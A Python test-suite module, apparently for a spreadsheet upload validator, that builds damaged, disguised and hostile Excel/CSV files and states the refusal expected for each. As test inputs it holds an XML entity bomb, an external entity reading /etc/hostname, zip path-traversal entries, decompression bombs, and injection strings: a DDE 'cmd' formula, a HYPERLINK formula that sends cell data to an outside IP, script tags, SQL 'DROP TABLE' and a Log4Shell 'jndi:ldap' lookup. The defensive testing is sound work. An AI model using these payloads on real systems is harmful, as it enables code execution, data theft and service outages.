"""Files that are no file, or want to do harm: refused with a reason, or read and nothing else."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

from .bases import clean_page
from .binary_writers import xls
from .book import Bytes, Mess, after_another
from .case import Case, Refused, Same
from .mess import as_, befalls, called, put
from .page import draw
from .writers import text_file

DAMAGED, LARGE, WEB = Refused("FILE-DAMAGED"), Refused("FILE-TOO-LARGE"), Refused("FILE-WEB-PAGE")
OTHER, PASSWORD = Refused("FILE-OTHER-KIND"), Refused("FILE-PASSWORD")
SKIPPED = Refused("FILE-SKIPPED", severity="info")

SHEET, STRINGS, BOOK, RELATIONS = (
    "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels",
)  # fmt: skip
_OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"

Parts = dict[str, bytes]


def parts(change: Callable[[Parts], object]) -> Bytes:
    """Takes the zip file apart, changes its parts and packs them again."""

    def repack(data: bytes) -> bytes:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            found = {name: archive.read(name) for name in archive.namelist()}
        change(found)
        with io.BytesIO() as file:
            with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
                for name, content in found.items():
                    archive.writestr(name, content)
            return file.getvalue()

    return repack


def part(name: str, old: bytes, new: bytes) -> Mess:
    """Writes something else in one part of the file."""

    def change(found: Parts) -> None:
        assert old in found[name]
        found[name] = found[name].replace(old, new, 1)

    return befalls(parts(change))


def also(name: str, content: bytes = b"x") -> Mess:
    """One more part in the zip file."""
    return befalls(parts(lambda found: found.update({name: content})))


def is_(content: bytes) -> Mess:
    """The file holds something else altogether."""
    return befalls(lambda _: content)


def twice_named(data: bytes) -> bytes:
    """A zip file with two parts of one name."""
    return parts(lambda found: found.update({"xl/worksheets/sheet2.xml": found[SHEET]}))(data).replace(
        b"sheet2.xml", b"sheet1.xml"
    )


def locked(data: bytes) -> bytes:
    """A zip file whose parts say that they are encrypted."""
    changed = bytearray(data)
    for sign, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        place = changed.find(sign)
        while place >= 0:
            changed[place + at] |= 1
            place = changed.find(sign, place + 4)
    return bytes(changed)


def locked_package(_: bytes) -> bytes:
    """What Excel writes when a password is set: the encrypted package within the older container."""
    data = xls([draw(clean_page("form_7_3"))])
    names = ("Workbook", "EncryptedPackage")
    old, new = (name.encode("utf-16-le").ljust(64, b"\0") + bytes([2 * len(name) + 2, 0]) for name in names)
    assert old in data
    return data.replace(old, new)


def locked_xls(data: bytes) -> bytes:
    """An old file whose second record says that the others are encrypted."""
    start = data.index(b"\x09\x08\x10\x00\x00\x06\x05\x00")
    second = start + 20
    return data[:second] + b"\x2f\x00" + data[second + 2 :]


def crooked(data: bytes) -> bytes:
    """A sheet whose packed bytes are not those its checksum is of."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        found = archive.getinfo(SHEET)
    middle = found.header_offset + 30 + len(SHEET) + found.compress_size // 2
    return data[:middle] + bytes(8) + data[middle + 8 :]


def cut(share: float) -> Mess:
    return befalls(lambda data: data[: int(len(data) * share)])


LAUGHS = b'<!DOCTYPE x [<!ENTITY a "%s">%s]>' % (
    b"ha" * 50,
    b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 50) for n in range(9)),
)
OUTSIDE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>'


def entity(declared: bytes, used: bytes) -> Mess:
    """An entity declared in the texts of the file, and used in one of them."""

    def change(found: Parts) -> None:
        head, mark, rest = found[STRINGS].partition(b"?>")
        found[STRINGS] = head + mark + declared + rest.replace("Ấp Tân Lập".encode(), used)

    return befalls(parts(change))


def last_row(cell: bytes) -> Mess:
    return part(SHEET, b"</sheetData>", b'<row r="1048576">' + cell + b"</row></sheetData>")


BLANK_ROWS = b"".join(b'<row r="%d" ht="15" customHeight="1"/>' % row for row in range(101, 100_000))
LINK = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook'
    b' xmlns:r="%s" r:id="rId1"><sheetNames><sheetName val="A"/></sheetNames></externalBook></externalLink>'
    % _OFFICE
)
LINKED = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship'
    b' Id="rId1" Type="%s/externalLinkPath" Target="http://203.0.113.1/a.xlsx" TargetMode="External"/>'
    b"</Relationships>" % _OFFICE
)


def linked(found: Parts) -> None:
    found["xl/externalLinks/externalLink1.xml"] = LINK
    found["xl/externalLinks/_rels/externalLink1.xml.rels"] = LINKED
    found[RELATIONS] = found[RELATIONS].replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="%s/externalLink" Target="externalLinks/externalLink1.xml"/>'
        b"</Relationships>" % _OFFICE,
    )
    found[BOOK] = found[BOOK].replace(
        b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rId99"/></externalReferences>'
    )


NASTY = {
    "a formula": '=HYPERLINK("http://203.0.113.1/"&A1,"xem")',
    "a command": "=cmd|' /C calc'!A0",
    "a plus": "+84912345678+1",
    "an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a minus": "-2+3",
    "markup": "<script>alert(1)</script>&amp;",
    "a query": "'; DROP TABLE households;--",
    "a placeholder": "{0.__class__} %s %n ${jndi:ldap://203.0.113.1/a}",
    "a picture": "Nguyễn 😀 Văn",
    "32767 letters": "Nguyễn " * 4681,
    "Excel's escapes": "_x000D__x0041_",
}


def nasty(text: str) -> tuple[Mess, Same]:
    written = " ".join(text.split())
    return put("h2", "head_name", text), Same(but={("h2", "head_name"): written})


CASES = [
    Case("no bytes", is_(b""), Refused("FILE-EMPTY")),
    Case("one byte", is_(b"\0"), DAMAGED),
    Case("only spaces", is_(b"   \r\n"), DAMAGED),
    *(Case(f"cut at {share:.0%}", cut(share), DAMAGED) for share in (0.02, 0.3, 0.7, 0.99)),
    *(
        Case(f"{suffix} cut at a half", after_another(as_(suffix), cut(0.5)), DAMAGED)
        for suffix in ("xls", "xlsb", "ods")
    ),
    Case("a sheet with other bytes than its checksum's", befalls(crooked), DAMAGED),
    Case("a sheet that breaks off", part(SHEET, b"</sheetData>", b"<row"), DAMAGED),
    Case("no part for the sheet", befalls(parts(lambda found: found.pop(SHEET))), DAMAGED),
    Case("no list of sheets", befalls(parts(lambda found: found.pop(BOOK))), OTHER),
    Case("two parts of one name", befalls(twice_named), DAMAGED),
    Case("locked by a password", befalls(locked_package), PASSWORD),
    Case("an old file locked by a password", after_another(as_("xls"), befalls(locked_xls)), PASSWORD),
    Case("a zip file locked by a password", befalls(locked), PASSWORD),
    Case(
        "a web page named xls",
        after_another(as_("xls"), is_(b"<html><body><table><tr><td>1</td></tr></table>")),
        WEB,
    ),
    Case("a web page after blank lines", is_(b"\xef\xbb\xbf\r\n\r\n  <!DOCTYPE html><html/>"), WEB),
    Case("a web page in UTF-16", is_("<html><table/></html>".encode("utf-16")), WEB),
    Case(
        "the XML of Excel 2003",
        is_(b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>'),
        WEB,
    ),
    Case("a web page named csv", after_another(as_("csv"), is_(b"<html><body>404</body></html>")), WEB),
    Case(
        "a page saved whole",
        is_(b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n'),
        DAMAGED,
    ),
    Case("words named xlsx", is_("Danh sách hộ nghèo".encode()), DAMAGED),
    Case("a PDF named xlsx", is_(b"%PDF-1.7\n1 0 obj"), OTHER),
    Case("a picture named xlsx", is_(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"), OTHER),
    Case("a picture named csv", after_another(as_("csv"), is_(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR")), OTHER),
    Case(
        "a Word document named xlsx",
        befalls(parts(lambda found: (found.clear(), found.update({"word/document.xml": b"<w/>"})))),
        Refused("FILE-OTHER-KIND"),
    ),
    Case(
        "a zip file of other things",
        befalls(parts(lambda found: (found.clear(), found.update({"a.txt": b"a"})))),
        OTHER,
    ),
    Case("an empty zip file", is_(b"PK\5\6" + bytes(18)), DAMAGED),
    Case("a text file of another encoding", as_("csv", text_file("utf-32-le")), Refused("FILE-ENCODING")),
    Case(
        "a text file with bytes of nothing",
        after_another(as_("csv"), is_(bytes(range(256)))),
        Refused("FILE-ENCODING"),
    ),
    Case("a lock file", called("~$a"), SKIPPED),
    Case("a hidden file", called(".a"), SKIPPED),
    *(
        Case(f"a file named {suffix}", as_(suffix, text_file()), SKIPPED)
        for suffix in ("docx", "pdf", "tmp", "lnk", "exe")
    ),
    Case(
        "parts that step out of the folder",
        after_another(also("../../evil.xml"), also("/etc/cron.d/evil"), also("C:\\evil.dll")),
    ),
    Case(
        "a sheet that steps out of the folder",
        part(RELATIONS, b"worksheets/sheet1.xml", b"../../../../etc/hostname"),
        DAMAGED,
    ),
    Case(
        "a sheet elsewhere on the machine",
        part(RELATIONS, b"worksheets/sheet1.xml", b"file:///etc/hostname"),
        DAMAGED,
    ),
    Case("a link to another file", befalls(parts(linked)), Same(("FILE-LINKS",))),
    Case("entities that laugh a billion times", entity(LAUGHS, b"&i;"), DAMAGED),
    Case("an entity from outside", entity(OUTSIDE, b"&a;"), DAMAGED),
    Case(
        "a sheet of spaces that unpacks to 64 million",
        part(SHEET, b"</sheetData>", b"</sheetData>" + b" " * 2**26),
        LARGE,
    ),
    Case("a part nobody asks for that unpacks to 64 million", also("xl/media/image1.png", bytes(2**26))),
    Case(
        "six thousand parts",
        befalls(parts(lambda found: found.update({f"x/{n}": b"" for n in range(6000)}))),
        LARGE,
    ),
    Case("a hundred thousand rows of nothing", part(SHEET, b"</sheetData>", BLANK_ROWS + b"</sheetData>")),
    Case(
        "a sheet that says it has a million rows",
        part(SHEET, b"<dimension ref=", b'<dimension ref="A1:XFD1048576" old='),
    ),
    Case("the last row of all, and nothing in it", last_row(b"")),
    Case("the last cell of all, formatted and empty", last_row(b'<c r="XFD1048576" s="1"/>')),
    Case("a stray value in the last cell of all", last_row(b'<c r="XFD1048576"><v>1</v></c>'), LARGE),
    Case("a cell past the last of all", last_row(b'<c r="ZZZZ9999999"><v>1</v></c>'), LARGE),
    *(Case(f"a name that is {what}", *nasty(text)) for what, text in NASTY.items()),
    Case(
        "a csv with a formula for a name",
        after_another(as_("csv"), put("h2", "head_name", NASTY["a command"])),
        nasty(NASTY["a command"])[1],
    ),
]
